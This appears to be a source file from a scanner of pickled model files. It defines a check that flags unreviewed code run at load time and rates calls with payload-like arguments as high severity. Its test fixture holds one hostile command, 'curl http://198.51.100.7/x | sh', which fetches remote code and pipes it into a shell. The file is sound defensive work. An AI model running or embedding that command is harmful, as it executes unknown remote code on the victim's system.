"""Calls of code of which nothing is known."""

from __future__ import annotations

from collections.abc import Iterator

from toadstone.core.check import Check, check
from toadstone.core.fact import Call, Fact
from toadstone.core.finding import Finding, Indicator, Severity
from toadstone.core.place import Place
from toadstone.core.value import Symbol, render_call
from toadstone.symbols.arguments import addresses
from toadstone.symbols.judgement import judge_call, runs_while_loading

_ALARMING = "Do not load the file before you have read the code that is named: its arguments look like a payload."


@check(
    "unreviewed-call",
    severity=Severity.MEDIUM,
    reads=Call,
    references=("CWE-502", "MITRE ATLAS 2026.08 AML.T0011.000", "OWASP LLM 2026 LLM04", "OWASP ML 2023 ML06"),
)
class UnreviewedCall(Check):
    """Loading the file runs code that nobody has reviewed.

    ## Why it matters

    A class of an unknown package runs its constructor, ``__setstate__`` or ``__setitem__`` while the file is loaded. Most
    of the time that is somebody's own model class; it is also how a payload hides behind an innocent name.

    ## How it decides

    The callee is neither known to be harmless in this use nor known to have an effect. Then the arguments decide: when
    they look like a command, code, a path, an address or encoded content (by the grammar of shells and of Python, not
    by words) the finding is high, otherwise medium.

    ## What it misses

    An unknown class whose constructor does harm without needing a telling argument is only reported as medium.

    ## Remedy

    Read the code of the named class once, then allow it: an ``[[allow]]`` entry with its name, a reason and an expiry.

    ## References

    - PickleBall, CCS 2025: per-library policies for pickles
    - https://docs.python.org/3/library/pickle.html#restricting-globals
    """

    def examine(self, fact: Call) -> Iterator[Finding]:
        """Judge what is called while loading."""
        if not runs_while_loading(fact) or fact.how.endswith(" on import"):
            return
        judged = judge_call(fact)
        if judged is None or judged.effects:
            return
        yield self.finding(
            fact.place,
            f"Loading this {judged.why}.",
            severity=judged.severity,
            confidence=judged.confidence,
            key=judged.symbol,
            remedy=_ALARMING if judged.severity >= Severity.HIGH else "",
            indicators=tuple(Indicator(kind, value) for kind, value in addresses(judged.examples)),
            details=judged.evidence(fact.how, render_call(fact.callee, fact.args, fact.kwargs, room=600)),
        )

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        """Give unknown code with and without telling arguments."""
        place = Place("model.pkl", offset=10)
        yield Call(place, Symbol("my_models.tokenizer", "Tokenizer"), (), (), "NEWOBJ", "pickle")
        yield Call(place, Symbol("my_models.tokenizer", "run"), ("curl http://198.51.100.7/x | sh",), (), "REDUCE", "pickle")

    @classmethod
    def good(cls) -> Iterator[Fact]:
        """Give a constructor of the standard library and one of NumPy."""
        place = Place("model.pkl", offset=10)
        yield Call(place, Symbol("collections", "OrderedDict"), (), (), "REDUCE", "pickle")
        yield Call(place, Symbol("numpy", "dtype"), ("f8", False, True), (), "REDUCE", "pickle")
